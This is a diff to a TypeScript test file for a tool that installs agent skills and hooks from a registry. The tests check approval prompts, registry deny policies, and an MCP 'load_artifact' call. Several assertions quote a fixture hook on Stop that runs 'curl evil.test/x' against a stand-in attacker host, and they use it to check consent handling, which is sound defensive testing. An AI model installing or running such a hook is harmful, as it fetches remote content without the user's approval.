@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { startRegistry } from '@catalog/testkit/registry-server';
 import { readTree, writeTree, type FileTree } from '@catalog/testkit/temporary-folder';
+import { connectHost } from './mcp-host.ts';
 import { hasTerminal, runInTerminal } from './terminal.ts';
 import { openWorkspace, type Workspace } from './workspace.ts';
 
@@ -298,15 +299,104 @@ describe('executable_content', () => {
   });
 });
 
-test('a server that only the workspace names needs approval', async () => {
-  const server = await startRegistry({ layers: { base: { ...EXECUTABLE, ...PLAIN } } });
-  const workspace = openWorkspace(
-    {},
-    {
-      '.catalog/sync.yaml': `defaults: {registry: ${server.url}, harness: claude-code}\n`,
-    },
-  );
-  expect((await workspace.error('sync')).error.code).toBe('materialize.consent_required');
-  await workspace.ok('sync --approve **');
-  expect(installed(workspace)).toHaveLength(3);
+describe('a registry over HTTP', () => {
+  test('that only the workspace names needs approval', async () => {
+    const server = await startRegistry({ layers: { base: { ...EXECUTABLE, ...PLAIN } } });
+    const workspace = openWorkspace(
+      {},
+      { '.catalog/sync.yaml': `defaults: {registry: ${server.url}, harness: claude-code}\n` },
+    );
+    expect((await workspace.error('sync')).error.code).toBe('materialize.consent_required');
+    await workspace.ok('sync --approve **');
+    expect(installed(workspace)).toHaveLength(3);
+  });
+
+  test('can tighten the policy for its artifacts', async () => {
+    const server = await startRegistry({
+      layers: { base: { ...EXECUTABLE, ...PLAIN } },
+      settings: {
+        executable_content: [{ policy: 'ask' }, { policy: 'deny', layer: 'base', kinds: ['hook'] }],
+      },
+    });
+    const workspace = openWorkspace();
+    writeTree(workspace.home, { '.catalog/sync.yaml': 'executable_content: [{policy: allow}]\n' });
+    const env = { CATALOG_REGISTRY: server.url, CATALOG_HARNESS: 'claude-code' };
+    const asked = await workspace.error('sync', env);
+    expect(asked.error.code).toBe('materialize.consent_required');
+    expect(asked.error.message).not.toContain('ops/hooked');
+    const { error } = await workspace.error('sync --approve ops/helper', env);
+    expect(error.code).toBe('materialize.policy_denied');
+    expect(error.message).toContain(`ops/hooked, denied by the policy of ${server.url}`);
+    expect(installed(workspace)).toEqual([
+      '.claude/agents/helper.md',
+      '.claude/skills/plain/SKILL.md',
+    ]);
+  });
+});
+
+describe('load_artifact', () => {
+  const SCRIPTED = {
+    'ops/scripted/SKILL.md': '---\nname: scripted\ndescription: Runs.\n---\nRun scripts/x.sh.\n',
+    'ops/scripted/scripts/x.sh': { x: '#!/bin/sh\n' },
+  };
+
+  test('returns the content and what the user must approve, and writes after approval', async () => {
+    const server = await startRegistry({ layers: { base: { ...EXECUTABLE, ...SCRIPTED } } });
+    const workspace = openWorkspace();
+    const env = { CATALOG_REGISTRY: server.url, CATALOG_HARNESS: 'claude-code' };
+    const { call } = await connectHost({ ...workspace, env, roots: [workspace.root] });
+    await call('load_artifact', { id: 'ops/scripted' });
+    expect(installed(workspace)).toHaveLength(2);
+    const { structuredContent, isError } = await call('load_artifact', { id: 'ops/hooked' });
+    expect(isError).not.toBe(true);
+    expect(structuredContent).toMatchObject({
+      materialized_at: [],
+      skill_body: HOOKED,
+      error: {
+        code: 'materialize.consent_required',
+        message: expect.stringContaining('hook on Stop runs: curl evil.test/x'),
+        suggested_action: expect.stringContaining(
+          `catalog trust approve ops/hooked --registry ${server.url}`,
+        ),
+      },
+    });
+    expect(installed(workspace)).toHaveLength(2);
+    await workspace.ok(`trust approve ops/hooked --registry ${server.url}`);
+    await call('load_artifact', { id: 'ops/hooked' });
+    expect(installed(workspace)).toContain('.claude/skills/hooked/SKILL.md');
+  });
+
+  test('asks the user of the host with the command, not the description', async () => {
+    const server = await startRegistry({ layers: { base: EXECUTABLE } });
+    const workspace = openWorkspace();
+    const env = { CATALOG_REGISTRY: server.url, CATALOG_HARNESS: 'claude-code' };
+    const asked: string[] = [];
+    const confirms = (message: string): boolean => asked.push(message) > 0;
+    const { call } = await connectHost({ ...workspace, env, roots: [workspace.root], confirms });
+    await call('load_artifact', { id: 'ops/hooked' });
+    expect(asked.join('\n')).toContain('+ SKILL.md: hook on Stop runs: curl evil.test/x');
+    expect(asked.join('\n')).not.toContain('promise');
+    expect(installed(workspace)).toEqual(['.claude/skills/hooked/SKILL.md']);
+    await call('load_artifact', { id: 'ops/hooked' });
+    expect(asked).toHaveLength(1);
+    expect((await workspace.ok('trust list')).stdout).toContain('ops/hooked');
+  });
+
+  test('follows the policy of the registry, even with CATALOG_MCP_WRITE=all', async () => {
+    const server = await startRegistry({
+      layers: { base: EXECUTABLE },
+      settings: { executable_content: [{ policy: 'deny', kinds: ['hook'] }] },
+    });
+    const workspace = openWorkspace();
+    const env = {
+      CATALOG_REGISTRY: server.url,
+      CATALOG_HARNESS: 'claude-code',
+      CATALOG_MCP_WRITE: 'all',
+    };
+    const { call } = await connectHost({ ...workspace, env, roots: [workspace.root] });
+    const { structuredContent } = await call('load_artifact', { id: 'ops/hooked' });
+    expect(structuredContent).toMatchObject({ error: { code: 'materialize.policy_denied' } });
+    await call('load_artifact', { id: 'ops/helper' });
+    expect(installed(workspace)).toEqual(['.claude/agents/helper.md']);
+  });
 });
